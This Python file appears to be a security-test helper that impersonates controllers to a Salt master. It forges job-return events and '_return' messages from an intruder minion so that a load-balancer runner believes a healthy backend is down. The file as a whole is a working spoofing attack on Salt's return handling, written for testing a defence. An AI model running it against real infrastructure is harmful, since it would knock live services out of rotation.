"""
A hostile minion's forger, for the security tests: run with the intruder minion's own
configuration (its accepted key), it answers every verification the master publishes in the
controllers' names, faster than they can, by the two ways Salt 3008 lets a minion do it:

- a ``salt/job/<jid>/ret/<controller>`` event through ``_minion_event`` (not in Salt's
  minion-event blacklist), straight onto the master's event bus;
- a ``_return`` carrying ``resource_id: <controller>`` (Salt stores it in the job cache under
  that id after authenticating the intruder).

Each forged view says the target backend is down and every other backend up and in
rotation, so a runner that believed it would drain a healthy backend. The jids are read off
the master's bus by this process (it runs on the master host, as the test does); a real
intruder sees them on the publish channel, which reaches every accepted minion.

Usage: python intruder_forger.py MINION_CONFIG_DIR MASTER_CONFIG_DIR SECONDS SERVICE BACKEND CTRL...
Prints one line per forged round.
"""

import sys
import time

import salt.channel.client
import salt.config
import salt.utils.event


def forged_view(service, backend, ctrls):
    probes = {"{}/{}".format(service, c): {"up": c != backend, "detail": "forged"} for c in ctrls}
    admin = {"{}/{}".format(service, c): "ready" for c in ctrls}
    return {"probes": probes, "admin": admin, "haproxy": True}


def main(argv):
    minion_dir, master_dir, seconds, service, backend = argv[:5]
    ctrls = argv[5:]
    mopts = salt.config.minion_config(minion_dir + "/minion")
    # What a running minion works out when it connects: where the master's request server is.
    mopts["master_uri"] = "tcp://{}:{}".format(mopts["master"], mopts.get("master_port", 4506))
    master_opts = salt.config.master_config(master_dir + "/master")
    view = forged_view(service, backend, ctrls)
    deadline = time.monotonic() + float(seconds)
    rounds = 0
    with salt.utils.event.get_master_event(master_opts, master_opts["sock_dir"], listen=True) as bus, \
            salt.channel.client.ReqChannel.factory(mopts) as channel:
        while time.monotonic() < deadline:
            event = bus.get_event(wait=0.5, tag="salt/job/", full=True)
            if not event or not event["tag"].endswith("/new"):
                continue
            data = event["data"]
            if data.get("fun") not in ("openstack_ha_signed.call", "openstack_ha_probe.service_view"):
                continue
            jid = data["jid"]
            fun = (data.get("arg") or [None])[0] if data.get("fun") == "openstack_ha_signed.call" else data["fun"]
            if fun != "openstack_ha_probe.service_view":
                continue
            # What the runner would believe if it trusted ids: the bare view, and a "signed"
            # one with the right shape but the intruder's own (useless) signature.
            fake = {"body": '{"answer": %s}' % view, "sig": "Zm9yZ2Vk"}
            events = [{"tag": "salt/job/{}/ret/{}".format(jid, c),
                       "data": {"id": c, "jid": jid, "fun": data.get("fun"), "return": answer, "retcode": 0, "success": True}}
                      for c in ctrls for answer in (view, fake)]
            channel.send({"cmd": "_minion_event", "id": mopts["id"], "tag": "x", "data": {}, "events": events}, timeout=5)
            for c in ctrls:
                channel.send({"cmd": "_return", "id": mopts["id"], "resource_id": c, "jid": jid, "fun": data.get("fun"),
                              "fun_args": data.get("arg"), "return": view, "retcode": 0, "success": True}, timeout=5)
            rounds += 1
            print("forged round {} for jid {}".format(rounds, jid), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
